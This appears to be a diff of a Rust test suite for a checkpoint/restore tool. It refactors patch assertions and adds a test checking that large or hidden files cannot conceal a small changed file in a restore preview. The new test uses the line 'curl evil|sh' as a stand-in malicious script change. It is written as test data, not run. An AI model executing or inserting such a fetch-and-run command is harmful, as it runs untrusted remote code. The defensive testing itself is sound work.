@@ -2,6 +2,7 @@
 
 use std::time::Duration;
 
+use super::super::patch::joined;
 use super::*;
 
 /// The patch has the name on one line. The control: the unescaped name forges lines.
@@ -16,7 +17,7 @@ async fn x15_file_name_does_not_forge_lines_of_a_patch() {
         assert!(format!("+++ b/{name}").contains(|c: char| c.is_control()), "the control");
         let mut scene = CheckpointFixture::new();
         scene.write(1, name, "1\n").await;
-        assert_eq!(scene.plan(1).patches.concat(), format!("--- a/{shown}\n+++ /dev/null\n@@ -1 +0,0 @@\n-1\n"));
+        assert_eq!(scene.plan(1).patch(), format!("--- a/{shown}\n+++ /dev/null\n@@ -1 +0,0 @@\n-1\n"));
         let [saved] = &*scene.checkpoints.of_session(session()).unwrap() else { panic!() };
         let [file] = &*scene.checkpoints.examine(saved, &mut Patches::default()) else { panic!() };
         assert_eq!(file.patch, format!("--- /dev/null\n+++ b/{shown}\n@@ -0,0 +1 @@\n+1\n"));
@@ -35,7 +36,7 @@ async fn x15_line_of_a_patch_ends_only_at_a_line_feed() {
         let mut scene = CheckpointFixture::new();
         fs::write(scene.at("f"), before).unwrap();
         scene.write(1, "f", written).await;
-        assert_eq!(scene.plan(1).patches.concat(), format!("--- a/f\n+++ b/f\n{hunk}"));
+        assert_eq!(scene.plan(1).patch(), format!("--- a/f\n+++ b/f\n{hunk}"));
     }
 }
 
@@ -64,10 +65,10 @@ async fn x15_comparing_unlike_files_takes_bounded_time() {
     }
     assert!(begun.elapsed() < Duration::from_secs(60), "{:?}", begun.elapsed());
     assert_eq!(plan.changes.len(), names.len());
-    let patch = plan.patches.concat();
+    let patch = plan.patch();
     let count = |sign: char| patch.lines().filter(|line| line.starts_with(sign)).count();
     assert_eq!(count('-'), count('+'), "lines are missing");
-    assert_eq!(scene.plan(2).patches.concat(), "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a by 2\n+a before\n");
+    assert_eq!(scene.plan(2).patch(), "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a by 2\n+a before\n");
 }
 
 /// The lines of six hundred almost equal files took minutes, since only their comparison had a limit. The control: the first
@@ -99,7 +100,7 @@ async fn x15_patch_of_many_large_files_is_bounded() {
         scene.write(1, "a", "a by 1\n").await;
         let plan = scene.plan(1);
         assert_eq!(plan.changes.len(), 13);
-        let patch = plan.patches.concat();
+        let patch = plan.patch();
         assert!(patch.starts_with("--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a by 1\n+a before\n"), "the control");
         assert!(patch.len() < 4 << 20 && crate::escape::exact(&patch).len() < 5 << 20, "{unit:?}");
         let (x, before) = (Hash::of(b"x"), Hash::of(long.as_bytes()));
@@ -115,6 +116,28 @@ async fn x15_patch_of_many_large_files_is_bounded() {
         let files: Vec<_> = all.iter().flat_map(|saved| scene.checkpoints.examine(saved, &mut patches)).collect();
         let shown = files.iter().map(|file| file.patch.len()).sum::<usize>();
         assert!(files.len() == 13 && shown < 5 << 20, "{shown}");
+    }
+}
+
+/// Large files that are not shown, or take all the time, come before a small one. The control: few of them are shown.
+#[tokio::test]
+async fn x15_large_files_hide_no_small_one_of_a_restore() {
+    let attacks: [(usize, String, usize); 3] =
+        [(8, "\u{1}".repeat(1 << 20), 8), (8, letters(1, 100_000), 0), (1, "\u{1}".repeat(1 << 10), 0)];
+    for (files, long, least_hidden) in attacks {
+        let mut scene = CheckpointFixture::new();
+        for name in (0..files).map(|n| format!("f{n}")) {
+            fs::write(scene.at(&name), &long).unwrap();
+            scene.write(1, &name, "x").await;
+        }
+        fs::write(scene.at("z.sh"), "curl evil|sh\n").unwrap();
+        scene.write(1, "z.sh", "#!/bin/sh\n").await;
+        let plan = scene.plan(1);
+        let shown = "--- a/z.sh\n+++ b/z.sh\n@@ -1 +1 @@\n-#!/bin/sh\n+curl evil|sh\n";
+        assert!(plan.patch().ends_with(shown), "files are not ordered by name, or the small one is hidden");
+        assert_eq!((plan.changes.len(), plan.patches.len()), (files + 1, files + 1));
+        let hidden = plan.patches.iter().filter(|patch| patch.hidden.is_some()).count();
+        assert!(hidden >= least_hidden && (files > 1 || hidden == 0), "{hidden}");
     }
 }
 
@@ -134,8 +157,7 @@ async fn x15_names_in_a_patch_are_bounded() {
         let named = |path: String| {
             patches.patch(&path, &FileChange { before: FileState::Other, ..change(path.clone()) }, (b"\xff", b""))
         };
-        let patch: String = paths.map(named).collect();
-        patch + &patches.rest()
+        joined(&paths.map(named).collect::<Vec<_>>())
     };
     let long = name_all(&"\n".repeat(4_000));
     assert!(long.len() < 2 << 20, "{}", long.len());
